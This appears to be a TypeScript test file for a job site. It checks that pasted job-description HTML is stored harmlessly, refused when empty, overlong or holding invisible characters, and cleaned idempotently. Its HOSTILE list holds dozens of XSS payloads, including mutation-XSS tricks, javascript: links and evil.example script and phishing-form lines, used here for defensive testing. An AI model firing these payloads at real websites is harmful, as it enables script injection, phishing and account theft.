/** The brief: whatever people paste, what is stored is harmless, short enough, and cleaning it again changes nothing. */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { jobForm as form, jobs } from '#contract/jobs/jobs.ts';
import { words } from '#contract/words/en.ts';
import { cleanHtml } from '#server/core/security/html.ts';
import { hunter, type Person } from '#server/testing/actors.ts';
import { type TestApp, testApp } from '#server/testing/app.ts';
import { jobForm } from '#server/testing/market.ts';
import { cleanBrief } from './rules.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="_top" rel="opener">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example">',
  '<form action="//evil.example"><input name=password type=password><button>Sign in</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p><b><i>unclosed',
  '</p></div></body></html><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<p id="root" class="fixed" name="x">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  `${'<b>'.repeat(1000)}deep${'</b>'.repeat(1000)}`,
  `${'<blockquote>'.repeat(1000)}deep`,
  `${'<ul><li>'.repeat(500)}deep${'</li></ul>'.repeat(500)}`,
];

const TAGS = new Set([
  'p',
  'br',
  'b',
  'strong',
  'i',
  'em',
  'u',
  's',
  'ul',
  'ol',
  'li',
  'blockquote',
  'h2',
  'h3',
  'h4',
  'a',
  'code',
  'pre',
]);
const OWN = 'https://adire.example';

/** Everything in cleaned HTML that is not allowed; attributes are read as a browser reads them. */
function leftOvers(html: string): string[] {
  const found: string[] = [];
  for (const [whole, name = '', rest = ''] of html.matchAll(/<\/?([^\s/>]*)([^>]*)>/g)) {
    if (!TAGS.has(name)) found.push(whole);
    for (const [, attribute = '', value = ''] of rest.matchAll(/([^\s"=/]+)(?:="([^"]*)")?/g)) {
      if (name !== 'a' || !['href', 'rel', 'target'].includes(attribute)) found.push(whole);
      if (attribute === 'href' && !isHarmless(value)) found.push(whole);
      if (attribute === 'rel' && value !== 'noopener nofollow ugc') found.push(whole);
      if (attribute === 'target' && value !== '_blank') found.push(whole);
    }
  }
  return found;
}

/** A link goes to the web or a mailbox; without a scheme it stays on this site. */
function isHarmless(value: string): boolean {
  const href = value.replaceAll('&amp;', '&');
  const url = URL.parse(href, OWN);
  if (!url) return true;
  if (!['http:', 'https:', 'mailto:'].includes(url.protocol)) return false;
  return /^(https?|mailto):/i.test(href) || url.origin === OWN;
}

/** The brief as it would be stored; `otherwise` where it would be refused. */
function cleanedOr(html: string, otherwise: string): string {
  try {
    return cleanBrief(html);
  } catch {
    return otherwise;
  }
}

let app: TestApp;
let owner: Person;
beforeAll(async () => {
  app = await testApp();
  owner = await hunter(app);
});
afterAll(() => app.close());

describe('hostile HTML', () => {
  test('every payload is stored harmless, or refused because nothing is left of it', async () => {
    const outcomes = new Set<number>();
    for (const payload of HOSTILE) {
      const answer = await owner.call(jobs.create, {
        body: await jobForm(owner, { job_description: payload, skill: '2D animation' }),
      });
      outcomes.add(answer.status);
      if (answer.status === 422) {
        expect(answer.refusal.errors, payload).toEqual({ job_description: [words.jobs.errors.description] });
        continue;
      }
      expect(answer.status, payload).toBe(200);
      const kept = answer.body.data.job_description;
      expect(leftOvers(kept), payload).toEqual([]);
      expect(cleanHtml(kept), payload).toBe(kept);
    }
    expect([...outcomes].sort()).toEqual([200, 422]);
  });

  test('good formatting stays as it was written', async () => {
    const brief =
      '<h2>About</h2><p>A <strong>bold</strong>, <em>quiet</em> line.<br />N50,000 &amp; more</p><ul><li>one</li></ul>';
    const { data } = await owner.ok(jobs.create, { body: await jobForm(owner, { job_description: brief }) });
    expect(data.job_description).toBe(brief);
  });

  test('a link keeps its address and loses its power over the page', async () => {
    const { data } = await owner.ok(jobs.create, {
      body: await jobForm(owner, {
        job_description: '<a href="https://band.example/a?b=1" onclick="x()">the band</a>',
      }),
    });
    expect(data.job_description).toBe(
      '<a href="https://band.example/a?b=1" rel="noopener nofollow ugc" target="_blank">the band</a>',
    );
  });

  test('cleaning anything made of such pieces leaves nothing over, and cleaning twice is cleaning once', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE.filter((one) => one.length < 300)),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '<!--',
        '-->',
        '</p>',
        '<p ',
        'href=',
        'javascript:',
        '\u0000',
        '`',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const clean = cleanedOr(pieces.join(''), '');
        expect(leftOvers(clean)).toEqual([]);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: 500 },
    );
  });
});

function uniqueMessages(errors: Record<string, string[]>): Record<string, string[]> {
  return Object.fromEntries(
    Object.entries(errors).map(([field, messages]) => [field, [...new Set(messages)]]),
  );
}

describe('what is left must be a brief', () => {
  async function refusalOf(job_description: string) {
    const answer = await owner.call(jobs.create, { body: await jobForm(owner, { job_description }) });
    return { status: answer.status, errors: answer.refusal.errors && uniqueMessages(answer.refusal.errors) };
  }

  test.each([
    '',
    '   ',
    '<p></p>',
    '<p>&nbsp;</p><p><br></p>',
    '<script>all of it</script>',
    '<ul><li> </li></ul>',
  ])('no words in %j', async (html) => {
    expect(await refusalOf(html)).toEqual({
      status: 422,
      errors: { job_description: [words.jobs.errors.description] },
    });
  });

  test('at most 20,000 characters go in and 60,000 come out', async () => {
    const tooLong = { status: 422, errors: { job_description: [words.jobs.errors.briefTooLong] } };
    expect(await refusalOf('x'.repeat(20_001))).toEqual(tooLong);
    expect(await refusalOf('<'.repeat(20_000))).toEqual(tooLong);
    const full = await owner.call(jobs.create, {
      body: await jobForm(owner, { job_description: 'x'.repeat(20_000) }),
    });
    expect(full.status).toBe(200);
  });

  test.each([
    'left \u202Eright to left',
    'an \u2066isolate',
    'a \u0007 bell',
    'a \u0085 next line',
    '<p>as an entity: &#x202E;</p>',
    '<p>and as &#8294; another</p>',
    '<a href="https://a.example/&#x202E;gpj.exe">in a link</a>',
    '<p>\u200B\u200B</p>',
    '<p>&nbsp;&#8203;</p>',
    '<b>&#x3164;</b>',
  ])('what turns the reading direction or cannot be seen is refused: %j', async (html) => {
    expect(await refusalOf(html)).toEqual({
      status: 422,
      errors: { job_description: [words.common.errors.plainText] },
    });
  });

  test('lines, tabs, and the marks that Arabic and emoji need are kept', async () => {
    const brief = '<p>one\ttwo\nthree \u0639\u0631\u0628\u200F \u{1F469}\u200D\u{1F3A8}</p>';
    const { data } = await owner.ok(jobs.create, { body: await jobForm(owner, { job_description: brief }) });
    expect(data.job_description).toBe(brief);
  });

  test('a NUL is refused, not stored', async () => {
    expect((await refusalOf('before\u0000after')).status).toBe(422);
  });
});

test.each(['<', '</', '<a ', '<!--', '<a href="', '<![CDATA[', '&nbsp', ' \u00a0'])(
  'a brief of nothing but %j takes as long as any other of its length',
  (unit) => {
    const before = performance.now();
    for (const length of [19_990, 250_000]) {
      const parsed = form.safeParse({ job_description: unit.repeat(length / unit.length) });
      expect(parsed.success).toBe(false);
    }
    expect(performance.now() - before, 'milliseconds; of a quadratic search, many thousands').toBeLessThan(
      1_000,
    );
  },
);
